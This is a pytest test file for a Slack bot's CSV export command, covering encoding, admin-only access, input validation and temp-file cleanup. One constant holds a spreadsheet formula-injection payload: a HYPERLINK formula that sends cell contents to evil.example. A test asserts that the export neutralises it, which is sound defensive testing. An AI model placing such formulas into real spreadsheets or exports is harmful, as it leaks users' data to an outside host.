"""`/pmo export` through Slack: a CSV in the admin's DM that opens in a spreadsheet as is."""

from __future__ import annotations

import csv
import io
import tempfile
from pathlib import Path

import pytest
from sqlalchemy.orm import Session, sessionmaker

from bot.sandbox.driver import SlackDriver
from bot.sandbox.fake_slack import FakeSlack
from storage.models import Program, RaidItem, StatusUpdate
from tests.conftest import ManualClock
from tests.flow import count, text_of

BOM = b"\xef\xbb\xbf"
TRICKY = 'Vendor late, "again"\nnext: escalate'
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


@pytest.fixture
def apollo(slack: SlackDriver) -> str:
    slack.command("UADMIN", "program add Apollo owner:<@ULEAD|lee>")
    return "apollo"


@pytest.fixture
def temp_dir(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    """Where the app writes its temporary files during the test."""
    folder = tmp_path / "temporary"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


def export(slack: SlackDriver, fake: FakeSlack, text: str) -> tuple[str, list[dict[str, str]]]:
    """Run `/pmo <text>` as the admin; what they were told, and the CSV's rows."""
    said = text_of(slack.command("UADMIN", text).body)
    content = fake.uploaded_files()[-1]["content"]
    assert content.startswith(BOM)
    return said, list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def submit_status(slack: SlackDriver, fake: FakeSlack, summary: str) -> None:
    slack.command("ULEAD", "status apollo")
    slack.submit_view(
        "ULEAD",
        fake.last_view("ULEAD"),
        {
            "rag": "amber",
            "summary": summary,
            "path_to_green": "Escalate",
            "recovery_date": "2026-12-20",
        },
    )


def test_admin_gets_the_programs_csv_in_their_dm(
    slack: SlackDriver, fake: FakeSlack, apollo: str, temp_dir: Path
) -> None:
    said, rows = export(slack, fake, "export")
    assert "Your export of 1 row is in your DM" in said
    (upload,) = fake.uploaded_files()
    assert upload["channel_id"] == fake.dm_channel_id("UADMIN")
    assert upload["filename"] == "pmo-programs-2026-11-25.csv"
    assert "1 row" in upload["initial_comment"]
    (row,) = rows
    assert (row["key"], row["name"], row["owner_id"]) == ("apollo", "Apollo", "ULEAD")
    assert (row["owner"], row["state"], row["cadence"]) == ("lee", "active", "weekly fri 10:00")
    assert row["created_at"] == "2026-11-25T14:00:00+00:00"
    assert list(temp_dir.iterdir()) == []  # the temporary file is gone


def test_summary_with_comma_quote_and_newline_survives_the_round_trip(
    slack: SlackDriver, fake: FakeSlack, apollo: str
) -> None:
    submit_status(slack, fake, TRICKY)
    _, rows = export(slack, fake, "export status")
    (row,) = rows
    assert row["summary"] == TRICKY
    assert (row["program_key"], row["rag"], row["recovery_date"]) == (
        "apollo",
        "amber",
        "2026-12-20",
    )


def test_a_hyperlink_formula_in_a_risk_title_is_neutralised(
    slack: SlackDriver, fake: FakeSlack, apollo: str
) -> None:
    slack.command("UOTHER", "risk apollo")
    slack.submit_view("UOTHER", fake.last_view("UOTHER"), {"title": EVIL, "impact": "5"})
    _, rows = export(slack, fake, "export risks")
    (row,) = rows
    assert row["title"] == "'" + EVIL
    assert (row["program_key"], row["score"], row["state"]) == ("apollo", "15", "open")


def test_every_kind_opens_in_a_spreadsheet_with_every_row(
    slack: SlackDriver, fake: FakeSlack, sessions: sessionmaker[Session], apollo: str
) -> None:
    slack.command("UADMIN", "program add Gemini owner:<@ULEAD2|kim>")
    for summary in ("first", "second", "third"):
        slack.command("ULEAD", f"status apollo green {summary}")
    slack.command("ULEAD2", "status gemini red vendor gone, no plan")
    for title in ("One", "Two"):
        slack.command("UOTHER", f'risk gemini "{title}"')
    expected = {"programs": Program, "status": StatusUpdate, "risks": RaidItem}
    for kind, model in expected.items():
        said, rows = export(slack, fake, f"export {kind}")
        assert len(rows) == count(sessions, model), kind
        assert f"Your export of {len(rows)} rows" in said


def test_since_keeps_only_updates_from_that_date_on(
    slack: SlackDriver, fake: FakeSlack, clock: ManualClock, apollo: str
) -> None:
    slack.command("ULEAD", "status apollo green old news")
    clock.advance(days=3)
    slack.command("ULEAD", "status apollo green fresh news")
    said, rows = export(slack, fake, "export status since:yesterday")
    assert [row["summary"] for row in rows] == ["fresh news"]
    assert "Your export of 1 row is in your DM" in said
    assert "since Fri 27 Nov 2026" in fake.uploaded_files()[-1]["title"]


def test_non_admins_are_refused_and_nothing_is_uploaded(
    slack: SlackDriver, fake: FakeSlack, apollo: str
) -> None:
    said = text_of(slack.command("ULEAD", "export").body)
    assert "Only" in said and "export PMO data" in said
    assert "/pmo export [programs|status|risks|intake|decisions|actions]" in said
    assert fake.uploaded_files() == []


def test_guests_are_refused(slack: SlackDriver, fake: FakeSlack, apollo: str) -> None:
    said = text_of(slack.command("UGUEST", "export").body)
    assert "Guest accounts" in said
    assert fake.uploaded_files() == []


@pytest.mark.parametrize(
    ("typed", "complaint"),
    [
        ("export budgets", "Export one of programs, status, risks, intake"),
        ("export status since:03/12/2026", "could be 3 Dec or 12 Mar"),
        ('export status since:"when pigs fly"', "can't read"),
        ("export status since:tomorrow", "future"),
        ("export status risks", "Name one kind"),
    ],
)
def test_bad_input_is_explained_and_echoed(
    slack: SlackDriver, fake: FakeSlack, apollo: str, typed: str, complaint: str
) -> None:
    said = text_of(slack.command("UADMIN", typed).body)
    assert complaint in said
    assert f"You typed: `/pmo {typed}`".replace('"', "'") in said.replace('"', "'")
    assert fake.uploaded_files() == []


def test_a_refused_upload_is_reported_and_the_file_removed(
    slack: SlackDriver, fake: FakeSlack, apollo: str, temp_dir: Path
) -> None:
    fake.fail_next("files.getUploadURLExternal", "ratelimited")
    said = text_of(slack.command("UADMIN", "export").body)
    assert "Slack refused the file (`ratelimited`)" in said
    assert list(temp_dir.iterdir()) == []
